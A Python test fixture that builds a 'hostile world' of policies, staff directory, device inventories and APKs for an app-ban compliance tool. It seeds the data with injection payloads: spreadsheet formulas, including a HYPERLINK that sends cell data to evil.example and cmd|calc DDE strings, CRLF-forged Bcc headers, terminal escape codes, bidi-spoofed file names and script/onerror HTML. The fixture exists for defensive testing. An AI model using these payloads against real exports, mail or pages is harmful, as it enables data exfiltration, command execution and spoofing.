"""A hostile world: a workspace, policies, a directory, inventories of every source, APKs
and an entity file carrying every value issue 13 names, for tests/test_hostile_world.py.

Spreadsheet formulas, a display name that holds two addresses, CR/LF (each followed by
:data:`FORGED`, so a line that starts with it was forged by an input), ESC sequences,
bidi overrides, right-to-left text, HTML, person IDs that collide as file names (``a/b``
and ``a_b``, ``Alice`` and ``alice``) and a person sorted after all the bad rows.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from pathlib import Path

from appveto.cli.main import main
from tests.apkbuilder import ApkSpec, build_apk
from tests.fleet import payloads as pl

FORGED = "FORGED"
"""Every CR/LF below is followed by this: a line of output starting with it was forged."""

FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
MALLORY = "Mallory <mallory@evil.example>, Bob"
ESC = "\x1b[2J\x1b[31mRED\x1b]0;pwned\x07"
BIDI = "\u202egnp.exe"
CRLF = f"line\r\n{FORGED}: Bcc: eve@evil.example"
RTL = "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627"
HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>"
TIKTOK = pl.TIKTOK

AT = "2024-04-15"

AUTHORITIES = f"""\
kind: authorities
authorities:
  - id: fed
    name: {json.dumps("Federal " + FORMULAS[0])}
    level: federal
    country: BE
    units:
      - {{id: fed-services, name: {json.dumps("Services " + BIDI + ESC)}}}
"""

DECISION = f"""\
kind: decision
id: fed-ban
title: {json.dumps("TikTok ban " + ESC + BIDI + CRLF)}
authority: fed
instrument: decision
reference: {json.dumps(FORMULAS[1] + HTML)}
apps:
  - name: {json.dumps("TikTok " + RTL)}
    android: [{TIKTOK}]
    ios: [{TIKTOK}]
    web: [tiktok.com]
scope:
  - id: service-devices
    mode: mandatory
    units: [fed-services]
term:
  effective: 2024-01-10
  deadlines:
    - {{kind: remove_by, date: 2024-03-31}}
exception_rules:
  grounds: [institutional_communication]
  approver: {json.dumps(MALLORY + CRLF)}
"""

CLEAN_DECISION = f"""\
kind: decision
id: fed-clean
title: A plain decision the export targets can render
authority: fed
instrument: decision
apps:
  - name: TikTok
    android: [{TIKTOK}]
    ios: [{TIKTOK}]
    web: [tiktok.com]
network_zones:
  - {{name: office-lan, cidrs: [192.0.2.0/24]}}
scope:
  - id: all
    mode: mandatory
    units: [fed-services]
  - id: office
    mode: mandatory
    networks: [office-lan]
term:
  effective: 2024-01-10
"""

# person ID, display name, e-mail, device, device name, app name (each holds TikTok)
PEOPLE: tuple[tuple[str, str, str, str, str, str], ...] = (
    ("a/b", MALLORY, "bob@example.org", "D1", FORMULAS[1], FORMULAS[0]),
    ("a_b", FORMULAS[0], "ab@example.org", "D2", FORMULAS[2], FORMULAS[3]),
    ("Alice", "Alice", "alice@example.org", "D3", HTML, FORMULAS[4]),
    ("alice", "alice " + RTL, "alice2@example.org", "D4", RTL, FORMULAS[5]),
    ("p-crlf-name", "Eve" + CRLF, "eve@example.org", "D5", "phone" + CRLF, "TikTok" + CRLF),
    ("p-crlf-mail", "Carl", f"carl@example.org\r\n{FORGED}: Bcc: eve@evil.example", "D6", "phone", "TikTok"),
    ("p-esc" + ESC, ESC, "esc@example.org", "D7", ESC, ESC),
    ("p-bidi", BIDI, "bidi@example.org", "D8", BIDI, BIDI),
    ("p-crlf-id" + CRLF, "Dan", "dan@example.org", "D9", "phone", "TikTok"),
    ("zz-last", "Zoe Last", "zoe@example.org", "D10", "Zoe's phone", "TikTok"),
)
BAD_ROWS = {"p-crlf-name", "p-crlf-mail", "p-crlf-id" + CRLF}
"""People whose notice cannot be sent (a line break in a header value): a bad row each."""


@dataclass(frozen=True)
class World:
    root: Path
    ws: Path
    policies: Path
    policies_changed: Path
    decision: Path
    directory: Path
    inventories: dict[str, Path]
    apks: tuple[Path, ...]
    apk_dir: Path
    entities: Path
    data_dir: Path

    @property
    def store(self) -> Path:
        return self.ws / "appveto.db"

    def protected(self) -> list[Path]:
        """The files a command given this world's workspace and policies reads."""
        return [self.store, self.ws / "appveto.toml", *sorted(self.policies.glob("*.yaml"))]


def _directory() -> str:
    return json.dumps(
        {
            "authorities": [{"id": "fed", "name": "Federal " + FORMULAS[0]}],
            "org_units": [{"id": "fed-services", "name": "Services " + BIDI, "authority": "fed"}],
            "roles": [{"id": "staff", "name": "Staff " + ESC}],
            "network_zones": [{"id": "office-lan", "name": "Office LAN " + BIDI}],
            "people": [
                {
                    "id": pid,
                    "display_name": name,
                    "email": email,
                    "org_unit": "fed-services",
                    "roles": ["staff"],
                    "devices": [dev],
                }
                for pid, name, email, dev, _, _ in PEOPLE
            ],
        },
        indent=1,
    )


def _generic_csv() -> str:
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)  # a CR in a cell stays in it
    w.writerow(["device_id", "device_name", "platform", "ownership", "management_mode", "app_id", "app_name"])
    for _, _, _, dev, dev_name, app_name in PEOPLE:
        w.writerow([dev, dev_name, "android", "company", "fully_managed", TIKTOK, app_name])
    return out.getvalue()


def _inventories(folder: Path) -> dict[str, Path]:
    apps = [(TIKTOK, FORMULAS[0] + ESC, "1" + CRLF)]
    files: dict[str, bytes | str] = {
        "generic-csv": _generic_csv(),
        "amapi": pl.amapi_page([pl.amapi_device("E1" + ESC, apps, serial=FORMULAS[1])]),
        "apple": pl.plist(
            [pl.apple_response("U1" + BIDI, [pl.apple_app(TIKTOK, FORMULAS[2] + BIDI, "1", "1")])]
        ),
        "intune-csv": "ApplicationKey,ApplicationName,ApplicationPublisher,ApplicationShortVersion,"
        "ApplicationVersion,DeviceId,DeviceName,OSDescription,OSVersion,Platform,UserId,EmailAddress,UserName\n"
        + pl.intune_row(FORMULAS[3].replace(",", ";"), "1", "I1", "x" + ESC, "a@example.org")
        + "\n",
        "intune-graph": json.dumps(
            {
                "value": [
                    pl.graph_detected_app(
                        "TikTok" + CRLF, "1", "ios", [pl.graph_managed_device("G1", ESC + BIDI, MALLORY)]
                    )
                ]
            }
        ),
        "fleet": json.dumps(
            {
                "hosts": [
                    pl.fleet_host(
                        "F1", FORMULAS[0], "darwin", [{"name": ESC, "version": "1", "source": "apps"}]
                    )
                ]
            }
        ),
        "osquery": pl.osquery_line("apps", "host" + ESC, "added", columns=pl.osquery_app("a.b", CRLF, "1"))
        + "\n",
        "headwind": json.dumps([pl.headwind_info("H1" + BIDI, [(TIKTOK, FORMULAS[1], "1")])]),
    }
    out = {}
    for source, content in files.items():
        ext = {"apple": "plist", "generic-csv": "csv", "intune-csv": "csv"}.get(source, "json")
        path = folder / f"{source}.{ext}"
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
        out[source] = path
    return out


def _apk(path: Path, package: str, label: str, permissions: tuple[str, ...]) -> Path:
    attrs = {"debuggable": False, "allowBackup": True, "label": label}
    path.write_bytes(
        build_apk(ApkSpec(package=package, sign=None, permissions=permissions, application_attrs=attrs))
    )
    return path


def build(root: Path) -> World:
    """Create the world in ``root`` (an empty folder) and import it into its workspace."""
    inputs = root / "inputs"
    inputs.mkdir(parents=True)
    apk_dir = inputs / "apks"
    apk_dir.mkdir()
    apks = (
        _apk(
            apk_dir / f"evil{ESC}.apk",
            TIKTOK,
            FORMULAS[0] + ESC + BIDI + CRLF,
            ("android.permission.X" + CRLF,),
        ),
        _apk(apk_dir / f"{BIDI}-other.apk", "org.example.other", RTL + HTML, ("android.permission.CAMERA",)),
    )
    ws = root / "ws"
    assert main(["init", str(ws)]) == 0
    policies = ws / "policies"
    (policies / "authorities.yaml").write_text(AUTHORITIES, encoding="utf-8")
    decision = policies / "fed-ban.yaml"
    decision.write_text(DECISION, encoding="utf-8")
    (policies / "fed-clean.yaml").write_text(CLEAN_DECISION, encoding="utf-8")
    changed = inputs / "policies-changed"
    changed.mkdir()
    (changed / "authorities.yaml").write_text(AUTHORITIES, encoding="utf-8")
    (changed / "fed-ban.yaml").write_text(DECISION.replace("2024-03-31", "2024-05-31"), encoding="utf-8")
    directory = inputs / "directory.json"
    directory.write_text(_directory(), encoding="utf-8")
    inventories = _inventories(inputs)
    assert main(["directory", "import", str(directory), "-w", str(ws)]) in (0, 2)
    assert (
        main(
            [
                "fleet",
                "import",
                "--source",
                "generic-csv",
                "--at",
                AT,
                "-w",
                str(ws),
                str(inventories["generic-csv"]),
            ]
        )
        == 0
    )
    entities = inputs / "entities.json"
    entities.write_text(
        json.dumps(
            {
                "about": {"name": "mine" + ESC, "source": CRLF, "licence": BIDI, "date": FORMULAS[0]},
                "entities": [{"name": "Evil" + ESC, "country": "BE", "domains": ["evil.example"]}],
            }
        ),
        encoding="utf-8",
    )
    data_dir = root / "data"
    data_dir.mkdir()
    return World(
        root, ws, policies, changed, decision, directory, inventories, apks, apk_dir, entities, data_dir
    )


EXODUS = json.dumps(
    {
        "trackers": {
            "1": {
                "name": "Evil tracker" + ESC + CRLF,
                "website": "https://evil.example/",
                "code_signature": "com.evil.sdk",
                "network_signature": "evil\\.example",
                "categories": [BIDI],
            }
        }
    }
).encode()
ANDROGUARD_MAP = json.dumps(
    {
        "Landroid/location/LocationManager;-getLastKnownLocation-(Ljava/lang/String;)": [
            "android.permission.ACCESS_FINE_LOCATION"
        ]
    }
).encode()
AOSP = json.dumps({"permissions": {"android.permission.X" + ESC: {"protectionLevel": "dangerous"}}}).encode()


def fetch(url: str, timeout: float) -> bytes:
    """What ``appveto data update`` downloads, without the network."""
    if "exodus" in url:
        return EXODUS
    if "api_permission_mappings" in url:
        return ANDROGUARD_MAP
    return AOSP
